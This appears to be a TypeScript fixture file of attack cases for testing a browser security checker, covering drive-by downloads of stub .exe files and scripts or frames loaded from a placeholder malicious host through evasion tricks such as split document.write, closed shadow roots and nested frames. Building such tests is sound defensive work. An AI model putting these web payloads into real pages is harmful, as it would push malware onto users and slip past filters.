import { type Attack, bad, code } from './attack.ts'

export const downloads: Attack[] = [
  {
    name: 'clicks a file made in the page',
    threatClass: 'drive-by-download',
    harm: 'download',
    ways: ['write', 'srcdoc', 'wrapper'],
    markup: () =>
      code(
        `var a = document.createElement('a'); a.href = URL.createObjectURL(new Blob(['MZ'])); a.download = 'setup.exe'; document.body.appendChild(a); a.click()`,
      ),
  },
  {
    name: 'points a hidden frame at an installer',
    threatClass: 'drive-by-download',
    harm: 'request',
    ways: ['write', 'srcdoc'],
    markup: ({ harmful }) => `<p>Shoes</p><iframe src="${harmful}/setup.exe" style="display:none"></iframe>`,
  },
  {
    name: 'carries a program in a link and clicks it',
    threatClass: 'drive-by-download',
    harm: 'download',
    ways: ['write'],
    markup: () =>
      `<a id="d" download="a.exe" href="data:application/octet-stream;base64,TVo=">x</a>${code("document.getElementById('d').click()")}`,
  },
]

export const hosts: Attack[] = (
  [
    ['in the markup', ({ id }) => `<p>Shoes</p><script src="${bad}/${id}/x.js"></script>`],
    [
      'by an element',
      ({ id }) =>
        code(`var s = document.createElement('script'); s.src = '${bad}/${id}/x.js'; document.body.append(s)`),
    ],
    [
      'by writing in pieces',
      ({ id }) =>
        code(
          `document.write('<scr' + 'ipt src="http://malicious.vigil-dr'); document.write('ill.example/${id}/x.js"></scr' + 'ipt>')`,
        ),
    ],
    [
      'by an attribute that comes later',
      ({ id }) =>
        code(
          `var f = document.createElement('iframe'); document.body.prepend(f); f.setAttribute('src', '${bad}/${id}/x.html')`,
        ),
    ],
    [
      'by markup of an element',
      ({ id }) =>
        `<div id="d"></div>${code(`document.getElementById('d').innerHTML = '<iframe src="${bad}/${id}/x.html"></iframe>'`)}`,
    ],
    [
      'in a shadow root',
      ({ id }) =>
        `<div id="d"></div>${code(`var r = document.getElementById('d').attachShadow({ mode: 'closed' }); r.innerHTML = '<iframe src="${bad}/${id}/x.html"></iframe>'`)}`,
    ],
    [
      'in a frame in a frame',
      ({ id }) =>
        code(
          `var f = document.createElement('iframe'); document.body.append(f); f.contentDocument.body.innerHTML = '<iframe src="${bad}/${id}/x.html"></iframe>'`,
        ),
    ],
    [
      'by replacing',
      ({ id }) =>
        `<b id="d"></b>${code(`var s = document.createElement('script'); s.src = '${bad}/${id}/x.js'; document.getElementById('d').replaceWith(s)`)}`,
    ],
  ] as [string, Attack['markup']][]
).map(
  ([how, markup]): Attack => ({
    name: `loads from a known bad host ${how}`,
    threatClass: 'malicious-host',
    harm: 'request',
    ways: ['write', 'srcdoc'],
    markup,
  }),
)
